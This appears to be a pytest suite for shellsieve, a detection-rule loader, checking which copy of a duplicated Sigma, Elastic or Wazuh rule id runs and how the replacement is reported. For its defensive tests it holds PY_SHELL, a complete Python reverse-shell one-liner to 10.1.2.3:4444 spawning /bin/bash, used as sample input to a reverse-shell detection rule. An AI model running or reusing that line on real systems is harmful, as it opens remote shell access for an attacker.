"""rules/identity.py: one rule per id; the newer of two copies runs, and SS305 names the winner and why."""

from __future__ import annotations

import datetime
import shutil
import subprocess
import sys
from collections import Counter
from pathlib import Path

import msgspec
import pytest

from conftest import PATTERNS, REVERSE_SHELL_SEQUENCE, RULESETS, WEB_SERVER_CHILD, WEBSHELL_RECON
from shellsieve.cli import build, main
from shellsieve.compile.ruleset import Ruleset
from shellsieve.diagnostics import Code, Diagnostic
from shellsieve.model.rule import Related
from shellsieve.rules.discover import load_rules
from shellsieve.run.match import BlockMatcher
from shellsieve.run.stats import Stats
from test_seeds import exec_of, net

RID = "0f5a8c2e-1111-4a4a-9b9b-2c2c2c2c2c2c"

ELASTIC = """[metadata]
creation_date = "2023/01/01"
{meta}

[rule]
name = "{name}"
rule_id = "{rid}"
type = "eql"
language = "eql"
{rule}
query = '''process where process.name == "{name}"'''
"""

SIGMA = """title: {name}
id: {rid}
{meta}
logsource: {{category: process_creation, product: linux}}
detection:
  sel:
    Image: /usr/bin/{name}
  condition: sel
"""


def elastic(path: Path, name: str, meta: str = "", rule: str = "", rid: str = RID) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(ELASTIC.format(name=name, rid=rid, meta=meta, rule=rule))
    return path


def sigma(path: Path, name: str, meta: str = "", rid: str = RID) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(SIGMA.format(name=name, rid=rid, meta=meta))
    return path


def winner(paths: list[Path]) -> tuple[str, list[Diagnostic]]:
    """Load `paths` in this order: the name of the one rule that runs, and the SS305 / SS302 diagnostics."""
    rules, diags = load_rules(paths)
    (rule,) = rules
    return rule.name, [d for d in diags if d.code in (Code.REPLACED, Code.DUPLICATE_ID)]


class TestElasticPrecedence:
    @pytest.mark.parametrize("order", [("old", "new"), ("new", "old")])
    def test_higher_version_wins_either_way(self, tmp_path: Path, order: tuple[str, str]) -> None:
        """`version` decides whichever copy is loaded first, even against the dates."""
        files = {"old": elastic(tmp_path / "a.toml", "old", 'updated_date = "2026/01/01"', "version = 2"),
                 "new": elastic(tmp_path / "b.toml", "new", 'updated_date = "2024/01/01"', "version = 3")}
        name, (d,) = winner([files[k] for k in order])
        assert name == "new"
        assert (d.code, d.severity, d.rule_id, d.location.path) == (Code.REPLACED, "info", RID, str(files["old"]))
        assert f"replaced by {files['new']}" in d.message and "version 3, this copy 2" in d.message
        assert d.render().startswith(f"{files['old']}:")

    @pytest.mark.parametrize("order", [("old", "new"), ("new", "old")])
    def test_later_updated_date_wins_either_way(self, tmp_path: Path, order: tuple[str, str]) -> None:
        """Without a version on both copies, [metadata] updated_date decides."""
        files = {"old": elastic(tmp_path / "a.toml", "old", 'updated_date = "2025/03/01"', "version = 9"),
                 "new": elastic(tmp_path / "b.toml", "new", 'updated_date = "2025/03/02"')}
        name, (d,) = winner([files[k] for k in order])
        assert name == "new" and d.location.path == str(files["old"])
        assert "the newer copy (last changed 2025-03-02, this copy 2025-03-01)" in d.message

    def test_dated_copy_beats_undated(self, tmp_path: Path) -> None:
        """A copy without updated_date (creation_date only) is older than one updated since, in either order."""
        old = elastic(tmp_path / "a.toml", "old")
        new = elastic(tmp_path / "b.toml", "new", 'updated_date = "2024/06/01"')
        assert winner([old, new])[0] == winner([new, old])[0] == "new"

    def test_same_dates_later_in_load_order(self, tmp_path: Path) -> None:
        """Nothing tells them apart: the copy loaded later runs; different queries make it a warning."""
        a = elastic(tmp_path / "a.toml", "first", 'updated_date = "2024/06/01"')
        b = elastic(tmp_path / "b.toml", "second", 'updated_date = "2024/06/01"')
        name, (d,) = winner([a, b])
        assert name == "second" and d.severity == "warning" and d.location.path == str(a)
        assert "loaded later (same version and dates, the queries differ)" in d.message
        assert winner([b, a])[0] == "first"

    def test_bad_metadata_is_a_schema_error(self, tmp_path: Path) -> None:
        """A date or version that cannot be compared is refused with the field named, not guessed."""
        for meta, rule, field in (('updated_date = "June 2024"', "", "updated_date"),
                                  ("", 'version = "3"', "version"),
                                  ("related = [1]", "", "metadata.related")):
            rules, diags = load_rules([elastic(tmp_path / f"{field}.toml", "x", meta, rule)])
            assert not rules and [(d.code, d.severity) for d in diags] == [(Code.SCHEMA, "error")]
            assert field in diags[0].message

    def test_revision_and_related_are_read(self, tmp_path: Path) -> None:
        """version, the [metadata] dates and [[metadata.related]] (shellsieve's field) reach the model."""
        meta = 'updated_date = "2024/06/01"\n[[metadata.related]]\nid = "76e4d92b-61c1-4a95-ab61-5fd94179a1ee"\ntype = "derived"'  # noqa: E501  the TOML as written
        (rule,), _ = load_rules([elastic(tmp_path / "a.toml", "x", meta, "version = 4")])
        rev = rule.revision
        assert (rev.version, rev.modified, rev.created) == (4, datetime.date(2024, 6, 1), datetime.date(2023, 1, 1))
        assert rev.related == (Related("76e4d92b-61c1-4a95-ab61-5fd94179a1ee", "derived"),)


class TestSigmaPrecedence:
    @pytest.mark.parametrize("order", [("old", "new"), ("new", "old")])
    def test_later_modified_wins_either_way(self, tmp_path: Path, order: tuple[str, str]) -> None:
        files = {"old": sigma(tmp_path / "a.yml", "old", "date: 2020-01-01\nmodified: 2023-05-01"),
                 "new": sigma(tmp_path / "b.yml", "new", "date: 2020-01-01\nmodified: 2024-05-01")}
        name, (d,) = winner([files[k] for k in order])
        assert name == "new" and d.location.path == str(files["old"]) and d.severity == "info"
        assert "last changed 2024-05-01, this copy 2023-05-01" in d.message

    @pytest.mark.parametrize("order", [("old", "new"), ("new", "old")])
    def test_date_when_never_modified(self, tmp_path: Path, order: tuple[str, str]) -> None:
        """A rule never modified last changed on its `date`: a later `date` is newer than an earlier `modified`."""
        files = {"old": sigma(tmp_path / "a.yml", "old", "date: 2020-01-01\nmodified: 2021-01-01"),
                 "new": sigma(tmp_path / "b.yml", "new", "date: 2022-01-01")}
        assert winner([files[k] for k in order])[0] == "new"

    def test_same_dates_same_query_is_info(self, tmp_path: Path) -> None:
        """Two copies of one rule (comments aside) with the same dates: the later runs, nothing to warn of."""
        a = sigma(tmp_path / "a.yml", "same", "date: 2020-01-01")
        b = tmp_path / "b.yml"
        b.write_text("# a copy\n" + a.read_text())
        rules, diags = load_rules([a, b])
        assert [r.location.path for r in rules] == [str(b)]
        assert [(d.code, d.severity) for d in diags] == [(Code.REPLACED, "info")]
        assert "loaded later (same version and dates, same query)" in diags[0].message

    def test_related_is_read(self, tmp_path: Path) -> None:
        """Sigma `related` (what a changed copy keeps of the upstream id) reaches the model."""
        up = "738d9bcf-6999-4fdb-b4ac-3033037db8ab"
        (rule,), _ = load_rules([sigma(tmp_path / "a.yml", "x", f"related:\n  - id: {up}\n    type: derived")])
        assert rule.revision.related == (Related(up, "derived"),)


OLD = "a0a0a0a0-1111-4a4a-9b9b-2c2c2c2c2c2c"
MID = "b0b0b0b0-1111-4a4a-9b9b-2c2c2c2c2c2c"


def related(rid: str, how: str) -> str:
    return f"related:\n  - id: {rid}\n    type: {how}"


class TestRelatedIds:
    @pytest.mark.parametrize("how", ["obsolete", "renamed"])
    @pytest.mark.parametrize("new_first", [True, False])
    def test_obsoleted_or_renamed_rule_is_replaced(self, tmp_path: Path, how: str, new_first: bool) -> None:
        """A rule naming another loaded id as obsolete or its old name: one rule, the new id runs."""
        old = sigma(tmp_path / "old.yml", "old", rid=OLD)
        new = sigma(tmp_path / "new.yml", "new", related(OLD, how), rid=RID)
        rules, diags = load_rules([new, old] if new_first else [old, new])
        assert [r.name for r in rules] == ["new"]
        (d,) = diags
        assert (d.code, d.severity, d.rule_id, d.location.path) == (Code.REPLACED, "info", OLD, str(old))
        assert f"replaced by rule {RID} at {new}" in d.message and f"type {how}" in d.message

    @pytest.mark.parametrize("how", ["derived", "similar", "merged"])
    def test_other_relations_run_both(self, tmp_path: Path, how: str) -> None:
        """A derived, similar or merged rule is another rule: both run, nothing reported."""
        rules, diags = load_rules([sigma(tmp_path / "old.yml", "old", rid=OLD),
                                   sigma(tmp_path / "new.yml", "new", related(OLD, how), rid=RID)])
        assert sorted(r.name for r in rules) == ["new", "old"] and not diags

    def test_chain_runs_the_newest(self, tmp_path: Path) -> None:
        """OLD renamed to MID, MID obsoleted by RID: only RID runs, and both others say so."""
        rules, diags = load_rules([sigma(tmp_path / "a.yml", "old", rid=OLD),
                                   sigma(tmp_path / "b.yml", "mid", related(OLD, "renamed"), rid=MID),
                                   sigma(tmp_path / "c.yml", "new", related(MID, "obsolete"), rid=RID)])
        assert [r.name for r in rules] == ["new"]
        assert sorted((d.rule_id, f"replaced by rule {RID}" in d.message) for d in diags) == [
            (OLD, True), (MID, True)]

    def test_cycle_runs_all(self, tmp_path: Path) -> None:
        """Two rules each obsoleting the other name no newest one: both run."""
        rules, diags = load_rules([sigma(tmp_path / "a.yml", "a", related(RID, "obsolete"), rid=OLD),
                                   sigma(tmp_path / "b.yml", "b", related(OLD, "obsolete"), rid=RID)])
        assert len(rules) == 2 and not diags


class TestSameFile:
    def test_sigma_documents_with_one_id(self, tmp_path: Path) -> None:
        """Two rules with one id in one file: neither is newer, so the second is an SS302 error, skipped."""
        f = tmp_path / "two.yml"
        f.write_text(SIGMA.format(name="one", rid=RID, meta="") + "---\n" + SIGMA.format(name="two", rid=RID, meta=""))
        rules, diags = load_rules([f])
        assert [r.name for r in rules] == ["one"]
        (d,) = diags
        assert (d.code, d.severity, d.rule_id, d.location.line) == (Code.DUPLICATE_ID, "error", RID, 10)
        assert "used twice in one file" in d.message

    def test_wazuh_rules_with_one_id(self, tmp_path: Path) -> None:
        """Wazuh itself refuses a rule id defined twice; so does the loader, within one file."""
        f = tmp_path / "r.xml"
        rule = '<rule id="100900" level="10"><match>{}</match><description>{}</description></rule>'
        f.write_text(f'<group name="t,">{rule.format("a", "a")}{rule.format("b", "b")}</group>')
        rules, diags = load_rules([f])
        assert [r.name for r in rules] == ["a"]
        assert [(d.code, d.severity, d.rule_id) for d in diags] == [(Code.DUPLICATE_ID, "error", "100900")]

    def test_same_file_duplicate_after_a_replacement(self, tmp_path: Path) -> None:
        """A file repeating an id stays an error even when an earlier file held that id too."""
        first = sigma(tmp_path / "a.yml", "zero", "date: 2030-01-01")
        f = tmp_path / "b.yml"
        f.write_text(SIGMA.format(name="one", rid=RID, meta="") + "---\n" + SIGMA.format(name="two", rid=RID, meta=""))
        rules, diags = load_rules([first, f])
        assert [r.name for r in rules] == ["zero"]
        assert [(d.code, d.severity) for d in diags] == [(Code.REPLACED, "info"), (Code.DUPLICATE_ID, "error")]

    def test_replacing_copy_keeps_the_place_in_load_order(self, tmp_path: Path) -> None:
        """The newer copy runs where the first copy of its id was loaded (ties between rules follow load order)."""
        a = sigma(tmp_path / "1" / "a.yml", "a-old", "date: 2020-01-01")
        b = sigma(tmp_path / "1" / "b.yml", "b", rid="9e9e9e9e-1111-4a4a-9b9b-2c2c2c2c2c2c")
        c = sigma(tmp_path / "2" / "a.yml", "a-new", "date: 2021-01-01")
        rules, _ = load_rules([a, b, c])
        assert [r.name for r in rules] == ["a-new", "b"]


# The upstream files the shipped seed rules are copies of (see docs/rules.md "Rule identity").
UPSTREAM = {
    REVERSE_SHELL_SEQUENCE: "elastic/linux/execution_shell_via_lolbin_interpreter_linux.toml",
    WEB_SERVER_CHILD: "elastic/linux/persistence_webserver_suspicious_child_execution.toml",
    WEBSHELL_RECON: "sigma/windows/process_creation/proc_creation_win_webshell_tool_recon.yml",
}
PY_SHELL = ["python3", "-c", 'import socket,subprocess,os,pty;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);'
            's.connect(("10.1.2.3",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);pty.spawn("/bin/bash")']


def replaced(diags: list[Diagnostic]) -> dict[str, Diagnostic]:
    return {d.rule_id or "": d for d in diags if d.code is Code.REPLACED}


def hits_by_name(ruleset: Ruleset) -> Counter[str]:
    """Run the seed's Python reverse shell (process start, then its connection); hits counted per rule name."""
    stats = Stats()
    matcher = BlockMatcher(ruleset, stats)
    events = [exec_of(PY_SHELL), net(process__name="python3")]
    matcher.process(b"".join(msgspec.json.encode(e) + b"\n" for e in events))
    names = {cr.rule.id: cr.rule.name for cr in ruleset.rules}
    out: Counter[str] = Counter()
    for rid, n in stats.hits.items():
        out[names[rid]] += n
    return out


def assert_once_per_rule(ruleset: Ruleset) -> None:
    hits = hits_by_name(ruleset)
    assert hits["Potential Reverse Shell via Suspicious Child Process"] == 1, hits
    assert max(hits.values()) == 1, hits  # no two copies of one rule alert on one command


@pytest.fixture(scope="module")
def upstream_copies(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Copies of the three upstream files the seeds clash with: the fast stand-in for the whole collections."""
    if not RULESETS.is_dir():
        pytest.skip(f"{RULESETS} is absent: the shared public rulesets are not checked out next to the repo")
    d = tmp_path_factory.mktemp("upstream")
    for rel in UPSTREAM.values():
        shutil.copy(RULESETS / rel, d / Path(rel).name)
    return d


class TestShippedBesideUpstream:
    @pytest.mark.parametrize("shipped_first", [True, False])
    def test_newer_upstream_replaces_the_seed_copies(self, upstream_copies: Path, shipped_first: bool) -> None:
        """No duplicate-id error; each seed copy of an upstream rule is replaced or replaces, named in SS305."""
        paths = [PATTERNS, upstream_copies] if shipped_first else [upstream_copies, PATTERNS]
        rules, ruleset, diags = build(paths)
        assert not [d.render() for d in diags if d.severity == "error"]
        got = replaced(diags)
        assert set(got) == set(UPSTREAM)
        for rid in (REVERSE_SHELL_SEQUENCE, WEB_SERVER_CHILD):  # dated upstream beats the undated seed copy
            assert got[rid].location.path.startswith(str(PATTERNS)), got[rid].render()
            assert f"replaced by {upstream_copies / Path(UPSTREAM[rid]).name}" in got[rid].message
            assert "the newer copy (last changed" in got[rid].message
        # the Sigma copy is upstream's rule unchanged: whichever is loaded later runs, one rule either way
        recon = got[WEBSHELL_RECON]
        assert recon.severity == "info" and "same query" in recon.message
        assert recon.location.path.startswith(str(PATTERNS)) == shipped_first
        assert len({r.id for r in rules}) == len(rules) == len(ruleset.rules)

    def test_reverse_shell_alerts_once_per_rule(self, upstream_copies: Path) -> None:
        """The seed's reverse shell with both copies loaded: one alert per rule, upstream's sequence once."""
        _, ruleset, _ = build([PATTERNS, upstream_copies])
        assert_once_per_rule(ruleset)

    def test_check_shows_the_replaced_copies(self, upstream_copies: Path, capsys: pytest.CaptureFixture[str]) -> None:
        """`check --quiet` still lists which copy of an id was replaced by which, and counts them; exit 0."""
        assert main(["check", "--format", "text", "--quiet", "--no-cache",
                     "--rules", str(PATTERNS), "--rules", str(upstream_copies)]) == 0
        out = capsys.readouterr().out
        lines = [line for line in out.splitlines() if "[SS305]" in line]
        assert len(lines) == 3 and all(line.startswith(str(PATTERNS)) for line in lines), out
        assert "replaced by another copy of their id: 3 rules" in out and "SS302" not in out

    def test_run_logs_the_replaced_copies(self, upstream_copies: Path) -> None:
        """`run` starts (no error) and logs each replaced copy at the default level, on stderr."""
        cli = str(Path(sys.executable).parent / "shellsieve")
        res = subprocess.run([cli, "run", "--strict", "--rules", str(PATTERNS), "--rules", str(upstream_copies)],
                             input=b"", capture_output=True, timeout=120)
        assert res.returncode == 0 and res.stdout == b"", res.stderr
        logs = [msgspec.json.decode(line) for line in res.stderr.splitlines()]
        ss305 = [e for e in logs if e.get("event") == "rule_diagnostic" and e.get("code") == "SS305"]
        assert {e["rule_id"] for e in ss305} == set(UPSTREAM) and {e["level"] for e in ss305} == {"info"}


@pytest.fixture(scope="module")
def loaded() -> tuple[Ruleset, list[Diagnostic]]:
    """patterns/ and the whole SigmaHQ and Elastic collections (tens of CPU-seconds to compile cold)."""
    if not RULESETS.is_dir():
        pytest.skip(f"{RULESETS} is absent: the shared public rulesets are not checked out next to the repo")
    _, ruleset, diags = build([PATTERNS, RULESETS / "sigma", RULESETS / "elastic" / "linux"])
    return ruleset, diags


@pytest.mark.slow
class TestShippedBesidePublicCollections:
    """The fast class above, with the whole collections instead of copies of three files."""

    def test_no_duplicate_id_error_and_winners_named(self, loaded: tuple[Ruleset, list[Diagnostic]]) -> None:
        ruleset, diags = loaded
        assert not [d.render() for d in diags if d.code is Code.DUPLICATE_ID and d.severity == "error"]
        got = replaced(diags)
        assert set(got) == set(UPSTREAM)
        for rid, rel in UPSTREAM.items():
            assert f"replaced by {RULESETS / rel}" in got[rid].message, got[rid].render()

    def test_reverse_shell_alerts_once_per_rule(self, loaded: tuple[Ruleset, list[Diagnostic]]) -> None:
        assert_once_per_rule(loaded[0])
